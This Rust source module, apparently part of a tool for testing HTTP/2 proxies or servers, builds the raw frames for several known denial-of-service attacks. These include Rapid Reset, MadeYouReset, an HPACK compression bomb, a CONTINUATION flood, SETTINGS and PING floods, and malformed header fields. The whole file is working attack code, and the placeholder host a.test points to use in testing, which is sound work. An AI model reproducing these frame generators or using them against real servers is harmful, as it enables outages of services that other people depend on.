//! The frames of each attack.

use super::Attack;

pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
pub(super) const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Bytes of the longest field that a table of 4,096 holds.
const FIELD_BYTES: u32 = 4_000;
/// References that fit in a frame, beside the head itself.
const REFERENCES: usize = 16_000;
/// References in a head that is too long, but not absurdly so.
const REFERENCES_FEW: usize = 60;
/// The one field that the table holds.
const NEWEST: u8 = 0xbe;

pub(super) fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET` or `POST` of `/`, at a host.
fn head(method: u8) -> Vec<u8> {
    [&[method, 0x86, 0x84, 0x01, 6][..], b"a.test"].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// The stream of a connection's unit.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// What comes first on a connection, past its preface.
pub(super) fn begin(attack: Attack, out: &mut Vec<u8>) {
    match attack {
        Attack::HpackBomb | Attack::HpackMany => {
            let mut block = head(GET);
            // RFC 7541, 6.2.1: to be remembered; the length in 7 bits and more.
            block.extend([0x40, 1, b'x', 0x7f]);
            let mut rest = FIELD_BYTES - 0x7f;
            while rest >= 0x80 {
                block.push(0x80 | (rest & 0x7f) as u8);
                rest >>= 7;
            }
            block.push(rest as u8);
            block.resize(block.len() + FIELD_BYTES as usize, b'v');
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream(0), &block);
        }
        Attack::Continuation => frame(out, HEADERS, END_STREAM, stream(0), &head(GET)),
        Attack::EmptyData => frame(out, HEADERS, END_HEADERS, stream(0), &head(POST)),
        _ => {}
    }
}

/// One unit of an attack, and what of it comes later. `kind`: of attacks that can be made in several ways, which.
pub(super) fn unit(attack: Attack, kind: u32, number: u32, now: &mut Vec<u8>, later: &mut Vec<u8>) {
    let id = stream(number);
    let references = |count| [head(GET), vec![NEWEST; count]].concat();
    match attack {
        Attack::MadeYouReset => {
            asked(kind, id, now);
            wrong(kind, id, now);
        }
        Attack::MadeYouResetApart => {
            asked(kind, id, now);
            wrong(kind, id, later);
        }
        Attack::RapidReset => {
            frame(now, HEADERS, END_HEADERS | END_STREAM, id, &head(GET));
            frame(now, RESET, 0, id, &8_u32.to_be_bytes());
        }
        Attack::RapidResetApart => {
            frame(now, HEADERS, END_HEADERS | END_STREAM, id, &head(GET));
            frame(later, RESET, 0, id, &8_u32.to_be_bytes());
        }
        Attack::HpackBomb => frame(now, HEADERS, END_HEADERS | END_STREAM, id + 2, &references(REFERENCES)),
        Attack::HpackMany => frame(now, HEADERS, END_HEADERS | END_STREAM, id + 2, &references(REFERENCES_FEW)),
        Attack::Continuation => frame(now, CONTINUATION, 0, stream(0), &[0; 16]),
        Attack::Settings => frame(now, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        Attack::Ping => frame(now, PING, 0, 0, &[0; 8]),
        Attack::EmptyData => frame(now, DATA, 0, stream(0), &[]),
        Attack::Malformed => {
            let block = [&head(GET)[..], &[0x00, 1, b'X', 2, b'\n', 0]].concat();
            frame(now, HEADERS, END_HEADERS | END_STREAM, id, &block);
        }
    }
}

/// How many ways there are to make a proxy reset a stream, here.
const WAYS: u32 = 4;

/// A request, to be followed by [`wrong`].
fn asked(kind: u32, id: u32, out: &mut Vec<u8>) {
    let ends = if kind % WAYS == 2 { END_STREAM } else { 0 };
    frame(out, HEADERS, END_HEADERS | ends, id, &head(POST));
}

/// What is an error of that stream (RFC 9113, 6.9, 6.9.1, 5.1, 6.3).
fn wrong(kind: u32, id: u32, out: &mut Vec<u8>) {
    match kind % WAYS {
        0 => frame(out, WINDOW_UPDATE, 0, id, &[0; 4]),
        1 => frame(out, WINDOW_UPDATE, 0, id, &0x7fff_ffff_u32.to_be_bytes()),
        2 => frame(out, DATA, 0, id, b"x"),
        _ => frame(out, PRIORITY, 0, id, &[0; 4]),
    }
}
